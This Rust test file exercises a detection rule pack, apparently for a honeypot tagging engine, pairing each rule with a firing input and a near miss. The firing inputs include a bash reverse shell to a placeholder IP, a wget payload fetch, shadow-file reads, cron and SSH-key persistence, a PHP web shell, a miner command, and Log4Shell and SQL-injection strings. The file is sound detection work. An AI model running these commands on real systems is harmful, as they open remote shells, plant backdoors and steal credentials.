//! The embedded rule pack: every rule has an example that fires it and a near miss that
//! does not.

use serde_json::{Map, Value, json};
use ttp_worker::tagging::{EngineOptions, Tagger};

const SESSION: (&str, &str) = ("attacker.session.ended", "session.ended");
const HTTP: (&str, &str) = ("attacker.fingerprinted", "http_request");
const AUTH: (&str, &str) = ("attacker.fingerprinted", "auth_attempt");
const CRED: (&str, &str) = ("credential.reuse.detected", "reuse.detected");
const IDENT: (&str, &str) = ("identity.formed", "formed");
const EMAIL: (&str, &str) = ("email.received", "received");
const INTEL: (&str, &str) = ("attacker.intel.enriched", "intel.enriched");
const IPV6: (&str, &str) = ("attacker.fingerprinted", "ipv6_leak");
const CANARY: (&str, &str) = ("canary.6f1c2a9e-0000-4000-8000-000000000001.triggered", "");

fn cmd(text: &str) -> Value {
    json!({"session_id": "s-1", "commands": [{"id": "s-1#0", "command_text": text}]})
}

fn email(extra: Value) -> Value {
    let mut base = json!({"source_id": "<m@x>", "from_domain": "corp.example", "mail_from_domain": "corp.example",
        "return_path_domain": "corp.example", "rcpt_count": 1, "rcpt_domains": ["a.example"],
        "dkim_signed": true, "spf_pass": true, "urls": [], "attachment_extensions": [],
        "attachment_macros": false, "attachment_password_protected": false, "html_smuggling": false,
        "body_simhash": "", "body_base64_bytes": 0, "subject": "hello", "x_mailer": "Thunderbird"});
    if let (Some(b), Some(e)) = (base.as_object_mut(), extra.as_object()) {
        for (k, v) in e {
            b.insert(k.clone(), v.clone());
        }
    }
    base
}

/// `(rule, topic, fires, does not fire)`.
fn examples() -> Vec<(&'static str, (&'static str, &'static str), Value, Value)> {
    let wallet = "1iaExsABJ862BDQTmZrjfnJhXS";
    vec![
        (
            "R1000",
            SESSION,
            cmd("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
            cmd("bash install.sh"),
        ),
        (
            "R1001",
            SESSION,
            cmd("python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"),
            cmd("python3 manage.py"),
        ),
        (
            "R1002",
            SESSION,
            cmd("wget -q http://198.51.100.9/x.sh"),
            cmd("wget --help"),
        ),
        ("R1003", SESSION, cmd("cat /etc/passwd"), cmd("passwd")),
        (
            "R1004",
            SESSION,
            cmd("sudo cat /etc/shadow"),
            cmd("ls /etc/shadow-backup"),
        ),
        (
            "R1005",
            SESSION,
            cmd("find / -perm -4000 -type f 2>/dev/null"),
            cmd("find / -perm 644"),
        ),
        ("R1006", SESSION, cmd("uname -a"), cmd("uname")),
        ("R1007", SESSION, cmd("whoami"), cmd("echo whoami")),
        (
            "R1008",
            SESSION,
            cmd("ip addr show"),
            cmd("ipcalc 10.0.0.0/8"),
        ),
        ("R1009", SESSION, cmd("netstat -antp"), cmd("netstat")),
        (
            "R1010",
            SESSION,
            cmd("nmap -sS 10.0.0.0/24"),
            cmd("echo scanning"),
        ),
        (
            "R1011",
            SESSION,
            cmd("echo '* * * * * /tmp/x' >> /etc/cron.d/sys"),
            cmd("cat /etc/crontab"),
        ),
        (
            "R1012",
            SESSION,
            cmd("useradd -m -s /bin/bash backdoor"),
            cmd("id backdoor"),
        ),
        (
            "R1013",
            SESSION,
            cmd("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"),
            cmd("cat ~/.ssh/known_hosts"),
        ),
        ("R1014", SESSION, cmd("history -c"), cmd("history")),
        ("R1015", SESSION, cmd("sudo -l"), cmd("sudo apt update")),
        (
            "R1016",
            SESSION,
            cmd("echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php"),
            cmd("cat /var/www/html/index.php"),
        ),
        (
            "R1017",
            SESSION,
            cmd("redis-cli FLUSHALL"),
            cmd("redis-cli INFO"),
        ),
        (
            "R1018",
            SESSION,
            cmd("ldapsearch -x -H ldap://dc1 -b dc=corp"),
            cmd("ls /etc/ldap"),
        ),
        (
            "R1019",
            SESSION,
            cmd("smbclient -L //10.0.0.5 -N"),
            cmd("smbclient //10.0.0.5/share"),
        ),
        (
            "R1020",
            SESSION,
            cmd("./xmrig -o stratum+tcp://pool:3333"),
            cmd("./configure && make"),
        ),
        (
            "R1021",
            SESSION,
            cmd("find / -name '*.kdbx'"),
            cmd("find ./src -name x"),
        ),
        (
            "R1030",
            HTTP,
            json!({"source_id": "h1", "user_agent": "sqlmap/1.7"}),
            json!({"source_id": "h1", "user_agent": "Mozilla/5.0"}),
        ),
        (
            "R1031",
            HTTP,
            json!({"source_id": "h2", "raw_url": "/a/..%2f..%2fetc/passwd"}),
            json!({"source_id": "h2", "raw_url": "/a/../b"}),
        ),
        (
            "R1032",
            HTTP,
            json!({"source_id": "h3", "raw_url": "/?q=${jndi:ldap://x/a}"}),
            json!({"source_id": "h3", "raw_url": "/?q=${user}"}),
        ),
        (
            "R1033",
            HTTP,
            json!({"source_id": "h4", "raw_url": "/p?id=1%27%20OR%201=1--"}),
            json!({"source_id": "h4", "raw_url": "/p?id=1"}),
        ),
        (
            "R1040",
            AUTH,
            json!({"source_id": "a1", "fail_count": 25, "service": "ssh"}),
            json!({"source_id": "a1", "fail_count": 3}),
        ),
        (
            "R1041",
            AUTH,
            json!({"source_id": "a2", "username": "admin", "password_count": 9}),
            json!({"source_id": "a2", "username": "admin", "password_count": 2}),
        ),
        (
            "R1042",
            AUTH,
            json!({"source_id": "a3", "username": "pi", "password": "raspberry"}),
            json!({"source_id": "a3", "username": "pi", "password": "hunter2"}),
        ),
        (
            "R1043",
            AUTH,
            json!({"source_id": "a4", "result": "success", "prior_brute": true, "username": "root"}),
            json!({"source_id": "a4", "result": "success"}),
        ),
        (
            "R1044",
            CRED,
            json!({"id": "c1", "credential_hash": "ab12", "reuse_count": 3}),
            json!({"id": "c1", "credential_hash": "ab12", "reuse_count": 0}),
        ),
        (
            "R1045",
            IDENT,
            json!({"identity_uuid": "I-1", "shared_password_hash": "h", "account_count": 5}),
            json!({"identity_uuid": "I-1", "shared_password_hash": "h", "account_count": 2}),
        ),
        (
            "R1050",
            EMAIL,
            email(json!({"rcpt_count": 40, "mail_from_domain": "bulk.example"})),
            email(json!({"rcpt_count": 40})),
        ),
        (
            "R1051",
            EMAIL,
            email(json!({"rcpt_count": 60})),
            email(json!({"rcpt_count": 49})),
        ),
        (
            "R1052",
            EMAIL,
            email(json!({"matched_kit": "16shop"})),
            email(json!({"matched_kit": ""})),
        ),
        (
            "R1053",
            EMAIL,
            email(json!({"urls": ["https://xn--pple-43d.example/login"]})),
            email(json!({"urls": ["https://apple.example/"]})),
        ),
        (
            "R1054",
            EMAIL,
            email(json!({"return_path_domain": "bounce.evil.example"})),
            email(json!({"dkim_signed": false})),
        ),
        (
            "R1055",
            EMAIL,
            email(json!({"attachment_extensions": [".lnk"]})),
            email(json!({"attachment_extensions": [".pdf"]})),
        ),
        (
            "R1056",
            EMAIL,
            email(
                json!({"subject": "URGENT invoice", "body_text": "please send the wire transfer today"}),
            ),
            email(json!({"subject": "lunch?", "body_text": "please send the menu"})),
        ),
        (
            "R1057",
            EMAIL,
            email(json!({"body_text": "x", "body_base64_bytes": 9000})),
            email(json!({"body_text": "x", "body_base64_bytes": 100})),
        ),
        (
            "R1060",
            SESSION,
            json!({"session_id": "s-2", "note_text": format!("Your files are encrypted. Pay 1 bitcoin to {wallet}")}),
            json!({"session_id": "s-2", "note_text": "we accept bitcoin"}),
        ),
        (
            "R1061",
            SESSION,
            json!({"session_id": "s-3", "beacon_interval_s": 60, "beacon_jitter_pct": 0.05}),
            json!({"session_id": "s-3", "beacon_interval_s": 60, "beacon_jitter_pct": 0.5}),
        ),
        (
            "R1062",
            SESSION,
            json!({"session_id": "s-4", "op_text": "DROP DATABASE shop"}),
            json!({"session_id": "s-4", "op_text": "SELECT 1"}),
        ),
        (
            "R1063",
            SESSION,
            json!({"session_id": "s-5", "bytes_out": 9_000_000}),
            json!({"session_id": "s-5", "bytes_out": 10, "request_count": 3}),
        ),
        (
            "R1064",
            SESSION,
            json!({"session_id": "s-6", "rows_read": 80000}),
            json!({"session_id": "s-6", "rows_read": 10}),
        ),
        (
            "R1065",
            SESSION,
            json!({"session_id": "s-7", "path": "/srv/app/.env"}),
            json!({"session_id": "s-7", "path": "/srv/app/env.txt"}),
        ),
        (
            "R1066",
            SESSION,
            json!({"session_id": "s-8", "path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
            json!({"session_id": "s-8", "path": "/var/run/docker.pid"}),
        ),
        (
            "R1067",
            SESSION,
            json!({"session_id": "s-9", "signals": ["privileged:true"]}),
            json!({"session_id": "s-9", "signals": ["bind:/tmp"]}),
        ),
        (
            "R1068",
            SESSION,
            json!({"session_id": "s-10", "llmnr_poisoned": true}),
            json!({"session_id": "s-10", "llmnr_poison_count": 0}),
        ),
        (
            "R1069",
            SESSION,
            json!({"session_id": "s-11", "tftp_filename": "core-sw1-confg"}),
            json!({"session_id": "s-11", "tftp_filename": "pxelinux.0"}),
        ),
        (
            "R1070",
            INTEL,
            json!({"abuseipdb_score": 90, "abuseipdb_categories": [18]}),
            json!({"abuseipdb_score": 90, "abuseipdb_categories": [4]}),
        ),
        (
            "R1071",
            INTEL,
            json!({"greynoise_classification": "malicious", "greynoise_tags": []}),
            json!({"greynoise_classification": "benign", "greynoise_tags": ["unknown"]}),
        ),
        (
            "R1072",
            INTEL,
            json!({"feodo_listed": true, "feodo_malware_family": "QakBot"}),
            json!({"feodo_listed": false}),
        ),
        (
            "R1073",
            INTEL,
            json!({"threatfox_threat_types": ["botnet_cc"]}),
            json!({"threatfox_threat_types": []}),
        ),
        (
            "R1080",
            IPV6,
            json!({"attacker_ip": "203.0.113.7", "addr": "fe80::1"}),
            json!({"attacker_ip": "203.0.113.7", "addr": "2001:db8::1"}),
        ),
        (
            "R1090",
            CANARY,
            json!({"token_id": "t", "navigator_webdriver": true}),
            json!({"token_id": "t", "navigator_webdriver": false}),
        ),
        (
            "R1091",
            CANARY,
            json!({"token_id": "t", "matched_tool": "playwright"}),
            json!({"token_id": "t", "matched_tool": "firefox"}),
        ),
        (
            "R1092",
            CANARY,
            json!({"token_id": "t", "webrtc_geo_mismatch": true}),
            json!({"token_id": "t", "webrtc_geo_mismatch": false}),
        ),
        (
            "R1093",
            CANARY,
            json!({"token_id": "t", "tz_mismatch_zones": 6}),
            json!({"token_id": "t", "tz_mismatch_zones": 1}),
        ),
        (
            "R1094",
            CANARY,
            json!({"token_id": "t", "platform_ua_inconsistent": true}),
            json!({"token_id": "t", "ua_webgl_mismatch": false}),
        ),
    ]
}

fn rule_ids(tagger: &mut Tagger, (subject, kind): (&str, &str), payload: &Value) -> Vec<String> {
    let mut p: Map<String, Value> = payload.as_object().cloned().unwrap_or_default();
    if !p.contains_key("identity_uuid") {
        p.entry("attacker_uuid")
            .or_insert(json!("0b6c1f7e-2d4a-4f0e-9c1b-5a3e7d9f1c20"));
    }
    let tagged = tagger.tag_payload(subject, kind, &p);
    assert!(tagged.warnings.is_empty(), "{:?}", tagged.warnings);
    tagged
        .tags
        .into_iter()
        .chain(tagged.below_floor)
        .map(|t| t.rule_id)
        .collect()
}

#[test]
fn every_builtin_rule_has_a_positive_and_a_negative_example() {
    let mut tagger = Tagger::new(&EngineOptions::default()).unwrap_or_else(|e| panic!("{e}"));
    assert!(tagger.problems().is_empty(), "{:?}", tagger.problems());
    let examples = examples();
    let mut failures = Vec::new();
    for (rule, topic, fires, quiet) in &examples {
        if !rule_ids(&mut tagger, *topic, fires)
            .iter()
            .any(|r| r == rule)
        {
            failures.push(format!("{rule} did not fire on {fires}"));
        }
        if rule_ids(&mut tagger, *topic, quiet)
            .iter()
            .any(|r| r == rule)
        {
            failures.push(format!("{rule} fired on {quiet}"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
    let covered: Vec<&str> = examples.iter().map(|e| e.0).collect();
    let uncovered: Vec<&str> = tagger
        .rules()
        .iter()
        .map(|r| r.rule_id.as_str())
        .filter(|id| !covered.contains(id))
        .collect();
    assert!(
        uncovered.is_empty(),
        "built-in rules without examples: {uncovered:?}"
    );
}

#[test]
fn no_builtin_rules_means_no_rules() {
    let options = EngineOptions {
        no_builtin_rules: true,
        ..EngineOptions::default()
    };
    let tagger = Tagger::new(&options).unwrap_or_else(|e| panic!("{e}"));
    assert!(tagger.rules().is_empty());
}
